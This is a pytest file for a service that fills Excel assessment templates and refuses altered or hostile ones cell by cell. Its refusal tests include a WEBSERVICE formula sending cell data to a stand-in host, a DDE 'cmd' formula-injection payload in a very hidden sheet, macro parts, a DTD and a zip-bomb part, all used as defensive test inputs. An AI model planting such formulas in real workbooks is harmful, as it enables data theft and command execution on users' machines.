"""Templates of strangers: filled in a process of their own, or refused by sheet and cell."""

from collections.abc import Callable, Mapping
from dataclasses import replace
from decimal import Decimal
from functools import cache
from io import BytesIO
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from openpyxl import Workbook, load_workbook

from services.planning.evidence.domain import Form
from services.planning.layers import Layer
from services.planning.spreadsheets.findings import WorkbookRefusedError
from services.planning.spreadsheets.limits import Limits
from services.planning.worksheets.domain import ExportFormat
from services.planning.worksheets.export.filling import ABOUT_SHEET
from services.planning.worksheets.exports import fill_template, render
from services.planning.worksheets.workbook.reading import read_workbook
from services.planning.worksheets.workbook.writing import Filled
from shared.instruments.lke import Answer, lke_instrument, parse_answers
from tests.support.exporting import EMPTY, evidence, exported
from tests.support.lke import case, shared_workbooks
from tests.support.workbook import workbook

SHEET = "LKE ZI"
RANDOM = {code: one for code, one in parse_answers(case("06-random-1")["answers"]).items() if one}
FILLED = Filled(
    RANDOM,
    {"A.I.1.i.a": '=HYPERLINK("x")'},
    {"A.I.1.i.a": [evidence(Form.ADDRESS, "SK", "https://contoh.example/sk")]},
)
OFFICIAL = [pytest.param(path, id=path.stem) for path in shared_workbooks()]


@cache
def own() -> bytes:
    return render(exported(unit=EMPTY), ExportFormat.LAYOUT2021, Layer.UNIT)


def changed(change: Callable[[Workbook], object]) -> bytes:
    """Return our own workbook as somebody changed it."""
    book = load_workbook(BytesIO(own()))
    change(book)
    content = BytesIO()
    book.save(content)
    return content.getvalue()


def cell(place: str, value: Any) -> bytes:
    def write(book: Workbook) -> None:
        book[SHEET][place] = value

    return changed(write)


def with_parts(
    parts: Mapping[str, bytes], replaced: Mapping[str, tuple[bytes, bytes]] | None = None
) -> bytes:
    """Return our own workbook with more parts, and with words replaced in those it has."""
    content = BytesIO()
    with ZipFile(BytesIO(own())) as given, ZipFile(content, "w", ZIP_DEFLATED) as package:
        for name in given.namelist():
            before, after = (replaced or {}).get(name, (b"", b""))
            package.writestr(name, given.read(name).replace(before, after) if before else given.read(name))
        for name, part in parts.items():
            package.writestr(name, part)
    return content.getvalue()


def beside(book: Any, formula: str) -> None:
    """Add a sheet that nobody sees with a formula."""
    sheet = book.create_sheet("Lain")
    sheet.sheet_state = "veryHidden"
    sheet["A1"] = formula


def refused(content: bytes, limits: Limits | None = None) -> list[tuple[str, str, str]]:
    with pytest.raises(WorkbookRefusedError) as refusal:
        fill_template(exported(unit=FILLED), Layer.UNIT, content, limits or Limits())
    return [(one["code"], one["sheet"], one["cell"]) for one in refusal.value.details["errors"]]


def test_a_template_is_filled_and_read_back() -> None:
    content = fill_template(exported(unit=FILLED), Layer.UNIT, own(), Limits())
    reading = read_workbook(content)
    assert reading.errors == ()
    assert dict(reading.answers) == RANDOM
    sheet = load_workbook(BytesIO(content))[SHEET]
    assert (sheet["O8"].value, sheet["O8"].data_type) == ('=HYPERLINK("x")', "s")
    assert sheet["Q8"].hyperlink.target == "https://contoh.example/sk"


def test_a_template_that_computes_with_what_it_shows_computes_with_all_digits_again() -> None:
    given = with_parts({}, {"xl/workbook.xml": (b"<calcPr ", b'<calcPr fullPrecision="0" ')})
    content = fill_template(exported(unit=FILLED), Layer.UNIT, given, Limits())
    assert load_workbook(BytesIO(content)).calculation.fullPrecision is not False
    assert b'fullPrecision="0"' not in ZipFile(BytesIO(content)).read("xl/workbook.xml")


def test_an_index_of_more_digits_than_excel_keeps_comes_back_as_it_was() -> None:
    long = {"B.I.a": Answer(index=Decimal("3.5999999999999999999"))}
    content = fill_template(exported(unit=Filled(long, {}, {})), Layer.UNIT, own(), Limits())
    assert dict(read_workbook(content).answers) == long


def test_the_same_template_and_state_give_the_same_bytes() -> None:
    first, again = (fill_template(exported(unit=FILLED), Layer.UNIT, own(), Limits()) for _ in range(2))
    assert first == again


def test_nothing_of_who_filled_the_template_before_stays() -> None:
    before = render(exported(unit=FILLED), ExportFormat.LAYOUT2021, Layer.UNIT)
    mine = Filled({"A.I.1.i.a": Answer(letter="Tidak")}, {}, {})
    content = fill_template(exported(unit=mine), Layer.UNIT, before, Limits())
    reading = read_workbook(content)
    assert (dict(reading.answers), dict(reading.notes), dict(reading.references)) == (mine.answers, {}, {})
    assert load_workbook(BytesIO(content)).sheetnames == [SHEET, ABOUT_SHEET]


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (lambda: cell("H8", 1), None),
        (lambda: cell("H4", 61), [("weight_differs", SHEET, "H4")]),
        (lambda: cell("K128", 1), [("formula_differs", SHEET, "K128")]),
        (lambda: cell("L208", "=100"), [("formula_differs", SHEET, "L208")]),
        (lambda: workbook({}), [("formula_differs", SHEET, "K128")]),
        (lambda: cell("L2", "Skor"), [("columns_moved", SHEET, "H2")]),
        (lambda: cell("J9", "A/B/C/D"), [("scale_differs", SHEET, "J9")]),
        (lambda: cell("J90", "A/B/C"), [("scale_differs", SHEET, "J90")]),
        (lambda: cell("H176", 2), [("scale_differs", SHEET, "H176")]),
        (lambda: cell("AA5", "ingat"), [("too_many_columns", SHEET, "AA5")]),
        (lambda: cell("B500", "ingat"), [("too_many_rows", SHEET, "B500")]),
        (lambda: changed(lambda book: book[SHEET].merge_cells("K8:K9")), [("merged_cell", SHEET, "K9")]),
        (lambda: changed(lambda book: setattr(book[SHEET], "title", "Lain")), [("sheet_missing", "", "")]),
        (lambda: cell("R10", '=WEBSERVICE("http://x.test/"&K10)'), [("formula_foreign", SHEET, "R10")]),
        (lambda: cell("M10", "=K10"), [("formula_foreign", SHEET, "M10")]),
        (lambda: cell("Q8", '=HYPERLINK("https://x.test")'), None),
        (lambda: changed(lambda book: beside(book, "=cmd|' /C x'!A0")), [("formula_foreign", "Lain", "A1")]),
        (lambda: changed(lambda book: beside(book, "=SUM(B1:B3)")), None),
    ],
    ids=[
        "free",
        "weights",
        "percent",
        "total",
        "values",
        "header",
        "scale",
        "row 90",
        "heading",
        "columns",
        "rows",
        "merged",
        "sheet",
        "asks others",
        "share",
        "overwritten link",
        "dde",
        "sum beside",
    ],
)
def test_another_layout_is_refused_by_its_cell(content: Callable[[], bytes], expected: Any) -> None:
    if expected is None:
        assert fill_template(exported(unit=FILLED), Layer.UNIT, content(), Limits())
    else:
        assert refused(content()) == expected


PART = "xl/worksheets/sheet1.xml"
DTD = (b"<worksheet ", b'<!DOCTYPE a [<!ENTITY b "c">]><worksheet ')
TWICE = (b'<row r="8"', b'<row r="7"><c r="K8"><v>1</v></c></row><row r="8"')
STYLES, BROKEN = "xl/styles.xml", (b"<patternFill/>", b"")
EXTERNAL = "xl/externalLinks/externalLink1.xml"
TYPES = "[Content_Types].xml"
AS_MACRO = (
    b"spreadsheetml.sheet.main+xml",
    b"sheet.macroEnabled.main+xml",
)


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (lambda: with_parts({"xl/vbaProject.bin": b"x"}), "macros"),
        (lambda: with_parts({}, {TYPES: AS_MACRO}), "macros"),
        (lambda: with_parts({}, {STYLES: BROKEN}), "template_unreadable"),
        (lambda: with_parts({EXTERNAL: b"<externalLink/>"}), "external_links"),
        (lambda: with_parts({}, {PART: DTD}), "dtd"),
        (lambda: with_parts({}, {PART: TWICE}), "cell_twice"),
        (lambda: with_parts({"xl/media/image1.bin": b"\0" * (65 << 20)}), "unpacked_too_large"),
        (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "not_xlsx"),
        (lambda: b"PK\x03\x04", "not_xlsx"),
        (lambda: own()[:-200], "not_xlsx"),
    ],
    ids=["macro", "macro type", "styles", "external", "dtd", "twice", "bomb", "encrypted", "stub", "cut"],
)
def test_hostile_and_broken_templates_are_refused(content: Callable[[], bytes], reason: str) -> None:
    (found,) = refused(content())
    assert found[0] == reason


def test_a_template_beyond_the_limits_of_its_process_is_refused() -> None:
    assert refused(own(), replace(Limits(), packed_bytes=100))[0][0] == "too_large"
    assert refused(own(), replace(Limits(), memory_bytes=16 << 20))[0][0] == "too_heavy"


@pytest.mark.parametrize("path", OFFICIAL)
def test_an_official_workbook_keeps_what_it_has(path: Path) -> None:
    before = load_workbook(path)
    content = fill_template(exported(unit=FILLED), Layer.UNIT, path.read_bytes(), Limits())
    after = load_workbook(BytesIO(content))
    assert after.sheetnames == [*before.sheetnames, ABOUT_SHEET]
    assert [sheet.sheet_state for sheet in after][:3] == [sheet.sheet_state for sheet in before]
    assert after.calculation.fullCalcOnLoad
    ours, theirs = after[SHEET], before[SHEET]
    assert vars(ours.protection) == vars(theirs.protection)
    assert ours.merged_cells.ranges == theirs.merged_cells.ranges
    assert [(rule.type, rule.formula1, str(rule.sqref)) for rule in ours.data_validations.dataValidation] == [
        (rule.type, rule.formula1, str(rule.sqref)) for rule in theirs.data_validations.dataValidation
    ]
    for row in range(1, 223):
        for column in "BGHIJLM":
            assert ours[f"{column}{row}"].value == theirs[f"{column}{row}"].value
    reading = read_workbook(content)
    assert dict(reading.answers) == RANDOM
    assert reading.answers.keys() == lke_instrument().questions.keys()
